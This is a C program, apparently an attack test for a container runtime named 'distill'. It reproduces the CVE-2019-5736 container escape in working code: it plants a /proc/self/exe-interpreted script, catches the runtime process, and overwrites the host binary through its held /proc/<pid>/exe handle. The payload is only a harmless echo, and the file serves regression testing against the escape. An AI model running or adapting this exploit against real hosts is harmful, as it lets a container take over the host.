/*
 * CVE-2019-5736 against distill, from inside a container (tests/tests/attacks/exe.rs).
 *
 *   exe_overwrite watch OUT   the container's main process: writes /tmp/evil (a script whose
 *                             interpreter is /proc/self/exe), then for 5 s watches /proc for
 *                             a process running as that interpreter (its cmdline starts with
 *                             "/proc/self/exe"), stops it, holds its /proc/<pid>/exe, kills it
 *                             and writes through the held file once nothing runs it any more.
 *                             What it saw and did goes to OUT (a host directory).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static FILE *report;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* The pid of a process started as the evil script's interpreter, or 0. */
static int find_interpreted(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    int found = 0;
    while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == getpid())
            continue;
        char path[64], buf[64] = {0};
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n > 0 && strncmp(buf, "/proc/self/exe", 14) == 0) {
            found = pid;
            break;
        }
    }
    if (d)
        closedir(d);
    return found;
}

int main(int argc, char **argv) {
    if (argc != 3 || strcmp(argv[1], "watch") != 0)
        return 2;
    char out[512];
    snprintf(out, sizeof out, "%s/report", argv[2]);
    report = fopen(out, "w");
    if (!report)
        return 3;
    setvbuf(report, NULL, _IONBF, 0);
    int s = open("/tmp/evil", O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (s < 0 || write(s, "#!/proc/self/exe\n", 17) != 17 || close(s) != 0) {
        fprintf(report, "cannot write /tmp/evil: %s\n", strerror(errno));
        return 4;
    }
    fprintf(report, "ready\n");
    double end = now() + 5;
    while (now() < end) {
        int pid = find_interpreted();
        if (!pid)
            continue;
        kill(pid, SIGSTOP);
        char path[64], target[256] = {0};
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int exe = open(path, O_PATH);
        if (exe < 0) {
            /* Gone already, or not ours to open: try the next one. */
            kill(pid, SIGKILL);
            continue;
        }
        snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
        if (readlink(path, target, sizeof target - 1) < 0)
            strcpy(target, "?");
        fprintf(report, "caught pid %d running %s\n", pid, target);
        kill(pid, SIGKILL);
        /* ETXTBSY while anything still executes it. */
        double give_up = now() + 5;
        int w = -1, err = 0;
        while (now() < give_up) {
            w = open(path, O_WRONLY | O_TRUNC);
            err = errno;
            if (w >= 0 || err != ETXTBSY)
                break;
            usleep(1000);
        }
        if (w >= 0) {
            const char evil[] = "#!/bin/sh\necho the host's binary is the container's now\n";
            ssize_t n = write(w, evil, sizeof evil - 1);
            fprintf(report, "WROTE %zd bytes into %s\n", n, target);
        } else {
            fprintf(report, "write refused: %s\n", strerror(err));
        }
        return 0;
    }
    fprintf(report, "nothing caught\n");
    return 0;
}
